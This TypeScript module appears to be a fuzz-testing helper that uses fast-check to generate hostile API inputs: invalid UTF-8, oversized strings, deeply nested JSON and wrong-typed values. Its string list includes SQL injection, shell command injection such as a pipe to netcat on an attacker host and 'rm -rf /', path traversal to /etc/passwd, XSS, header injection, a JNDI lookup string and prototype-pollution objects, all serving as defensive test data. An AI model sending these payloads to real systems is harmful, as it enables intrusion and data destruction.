import fc from 'fast-check';

/**
 * Values an attacker or a broken client sends, as the wire carries them:
 * strings (query, path, JSON strings) and JSON values of the wrong type.
 */

/** Bytes that are not UTF-8: lone continuation bytes, overlongs, surrogates, truncated sequences. */
export const INVALID_UTF8: Buffer[] = [
  Buffer.from([0xff, 0xfe]),
  Buffer.from([0xc0, 0xaf]),
  Buffer.from([0xed, 0xa0, 0x80]),
  Buffer.from([0xe2, 0x82]),
  Buffer.from([0x80]),
  Buffer.from([0xf8, 0x88, 0x80, 0x80, 0x80]),
];

export const HOSTILE_STRINGS: string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  "' OR 1=1; DROP TABLE api_tokens; --",
  '"; DELETE FROM hosts; --',
  "1' UNION SELECT token_hash FROM api_tokens --",
  '$(reboot)',
  '`id`',
  '; rm -rf / #',
  '| nc attacker 4444',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '\u001b[31mred\u001b[0m\u001b]0;title\u0007',
  '\r\nSet-Cookie: x=1',
  'line1\nline2\n-a always,exit -S all',
  '\ud800',
  '\udfff\ud800',
  '\u202eexe.txt',
  '\ufeff',
  '🦄'.repeat(50),
  '%',
  '%00',
  '%ff',
  '{{7*7}}',
  '${jndi:ldap://x/a}',
  'null',
  'undefined',
  'true',
  'NaN',
  'Infinity',
  '-Infinity',
  '-1',
  '-0',
  '0',
  '1e308',
  '1e-308',
  '9223372036854775807',
  '9223372036854775808',
  '-9223372036854775809',
  '18446744073709551616',
  '340282366920938463463374607431768211456',
  '0x10',
  '1.5',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '0001-01-01T00:00:00Z',
  '9999-12-31T23:59:59.999Z',
  '+275760-09-13T00:00:00.000Z',
  '-271821-04-20T00:00:00.000Z',
  '1970-01-01T00:00:00Z',
  '2026-02-30T25:61:61Z',
  '-1000000000000000',
  '8640000000000001',
  'exec',
  'file',
  'linux',
  'admin',
];

/** Long strings: near and over every length limit, up to 1 MB (only where a body can carry them). */
export function longString(length: number, unit = 'A'): string {
  return unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
}

export const hostileString = (maxLong = 4096): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
    { weight: 1, arbitrary: fc.constantFrom(255, 256, 1024, 4097, maxLong).map((n) => longString(Math.min(n, maxLong))) },
    { weight: 1, arbitrary: fc.integer({ min: -(2 ** 53), max: 2 ** 53 }).map(String) },
  );

/** Nested arrays/objects `depth` deep: JSON parsers and validators that recurse blow their stack on it. */
export function deepJson(depth: number, kind: 'array' | 'object'): string {
  return kind === 'array' ? '['.repeat(depth) + ']'.repeat(depth) : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
}

/** Any JSON value of a wrong or hostile type for a field. */
export const hostileJson = (maxLong = 4096): fc.Arbitrary<unknown> =>
  fc.oneof(
    { weight: 5, arbitrary: hostileString(maxLong) },
    {
      weight: 3,
      arbitrary: fc.constantFrom<unknown>(
        null,
        true,
        false,
        0,
        -1,
        -(2 ** 63),
        2 ** 64,
        Number.MAX_SAFE_INTEGER + 2,
        1e308,
        -1e308,
        0.5,
        [],
        {},
        [null],
        ['a', 1],
        { __proto__: { admin: true } },
        { constructor: { prototype: { polluted: true } } },
        { $gt: '' },
      ),
    },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  );
